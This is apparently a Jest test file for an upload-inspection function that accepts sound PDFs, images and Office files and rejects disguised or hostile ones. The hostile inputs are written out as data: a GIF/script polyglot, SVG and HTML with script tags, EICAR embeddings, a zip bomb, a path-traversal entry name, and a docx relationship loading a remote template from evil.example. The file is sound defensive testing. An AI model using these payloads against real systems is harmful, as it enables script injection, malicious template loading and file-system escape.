import { describe, expect, it } from '@jest/globals';
import {
  EICAR,
  encryptedPdf,
  sampleDocx,
  sampleJpeg,
  samplePdf,
  samplePng,
  sampleWebp,
  sampleXlsx,
} from '../../test/sample-files.js';
import { zip } from '../../test/zip.js';
import { claimedType } from './file-name.js';
import { inspectFile } from './inspect-file.js';

const inspect = (name: string, bytes: Buffer) => inspectFile(bytes, claimedType(name));

describe('the check of an uploaded file', () => {
  it.each([
    ['a.pdf', () => samplePdf()],
    ['a.png', () => samplePng()],
    ['a.jpg', () => sampleJpeg()],
    ['a.webp', () => sampleWebp()],
    ['a.docx', async () => sampleDocx()],
    ['a.xlsx', async () => sampleXlsx()],
  ])('accepts a sound %s', async (name, sample) => {
    await expect(inspect(name, await sample())).resolves.toBeUndefined();
  });

  const gif = Buffer.from('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)', 'latin1');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

  it.each<[string, string, () => Promise<Buffer> | Buffer, RegExp]>([
    ['a program renamed', 'x.pdf', () => Buffer.from('MZ\x90\x00 this program'), /not what the name says/],
    ['html renamed', 'x.pdf', () => Buffer.from('<!doctype html><script>alert(1)</script>'), /not what the name says/],
    ['svg renamed', 'x.png', () => svg, /not what the name says/],
    ['a GIF polyglot', 'x.png', () => gif, /not what the name says/],
    ['a png renamed', 'x.jpg', () => samplePng(), /not what the name says/],
    ['a docx renamed', 'x.xlsx', () => sampleDocx(), /not what the name says/],
    ['an empty file', 'x.pdf', () => Buffer.alloc(0), /empty/],
    ['the EICAR file', 'x.pdf', () => Buffer.from(EICAR), /test virus/],
    ['EICAR behind a PDF', 'x.pdf', async () => Buffer.concat([await samplePdf(1), Buffer.from(EICAR)]), /test virus/],
    ['EICAR packed in a docx', 'x.docx', () => sampleDocx({ 'word/media/a.bin': EICAR }), /test virus/],
    ['a PDF with a password', 'x.pdf', () => encryptedPdf(), /password/],
    ['a cut PDF', 'x.pdf', async () => (await samplePdf()).subarray(0, 60), /damaged|no pages/],
    ['a cut png', 'x.png', async () => (await samplePng()).subarray(0, 90), /damaged/],
    ['a png of 16000 x 16000 pixels', 'x.png', () => samplePng(16_000, 16_000), /40 million/],
    ['a zip that is no office file', 'x.docx', () => plainZip(), /not what the name says/],
    ['a docx with macros', 'x.docx', () => sampleDocx({ 'word/vbaProject.bin': 'x' }), /macros/],
    [
      'a docx that holds a zip',
      'x.docx',
      () => sampleDocx({ 'word/embeddings/a.bin': sampleXlsx() }),
      /another archive/,
    ],
    ['a docx with 1,001 parts', 'x.docx', () => manyParts(), /more than 1000 parts/],
    ['a zip bomb', 'x.docx', () => sampleDocx({ 'word/bomb.xml': Buffer.alloc(60_000_000) }), /far more than its size/],
    [
      'a docx that loads a template',
      'x.docx',
      () => sampleDocx({ 'word/_rels/settings.xml.rels': TEMPLATE }),
      /template/,
    ],
    ['a docx with a name that leaves its folder', 'x.docx', () => sampleDocx({ '../../evil': 'x' }), /unsafe name/],
  ])('D-086: refuses %s', async (_what, name, sample, detail) => {
    await expect(inspect(name, await sample())).rejects.toMatchObject({
      code: 'FILE_REFUSED',
      detail: expect.stringMatching(detail),
    });
  });
});

const TEMPLATE =
  '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';

const plainZip = (): Buffer => zip({ 'a.txt': 'a' });

const manyParts = (): Buffer =>
  sampleDocx(Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`word/p${index}.xml`, 'x'])));
